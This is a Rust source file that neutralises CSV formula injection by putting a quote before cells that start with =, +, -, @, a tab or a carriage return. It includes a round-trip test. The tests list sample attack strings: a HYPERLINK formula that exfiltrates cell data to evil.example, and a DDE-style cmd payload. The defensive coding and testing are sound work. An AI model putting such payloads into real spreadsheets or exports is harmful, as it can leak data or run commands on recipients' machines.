//! CSV cells that a spreadsheet would run as formulas. A text cell beginning with `=`, `+`,
//! `-`, `@`, a tab or a carriage return is written with a leading `'` (OWASP's rule against CSV
//! injection), and an import takes the `'` off again, so a round trip is exact. A text that
//! itself begins with `'` and one of those (or a second `'`) gets a `'` too, so that the import
//! never takes off one that was there to begin with.

const TRIGGERS: &[char] = &['=', '+', '-', '@', '\t', '\r'];

/// Whether the import would take a leading `'` off `text`: a `'` followed by a trigger or by
/// another `'`.
fn is_escaped(text: &str) -> bool {
    let mut chars = text.chars();
    chars.next() == Some('\'')
        && chars
            .next()
            .is_some_and(|c| c == '\'' || TRIGGERS.contains(&c))
}

/// The cell to write for a text: `'` + text when a spreadsheet would run it, or when the import
/// would otherwise take off a `'` of its own.
pub fn neutralise(text: &str) -> std::borrow::Cow<'_, str> {
    if text.starts_with(TRIGGERS) || is_escaped(text) {
        format!("'{text}").into()
    } else {
        text.into()
    }
}

/// The text an exported cell stands for: `neutralise` undone.
pub fn restore(cell: &str) -> &str {
    if is_escaped(cell) { &cell[1..] } else { cell }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_quoted_and_come_back_exactly() {
        for (text, cell) in [
            (
                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
                "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
            ),
            ("+cmd|'/c calc'!A0", "'+cmd|'/c calc'!A0"),
            ("-2+3", "'-2+3"),
            ("@SUM(1+1)", "'@SUM(1+1)"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("'=x", "''=x"),
            ("''", "'''"),
            ("'plain", "'plain"),
            ("'", "'"),
            ("Laptop = fast", "Laptop = fast"),
            ("", ""),
        ] {
            assert_eq!(neutralise(text), cell, "{text:?}");
            assert_eq!(restore(cell), text, "{cell:?}");
        }
        // A cell written by hand that the export would not have written is taken as it is.
        assert_eq!(restore("'plain"), "'plain");
    }
}
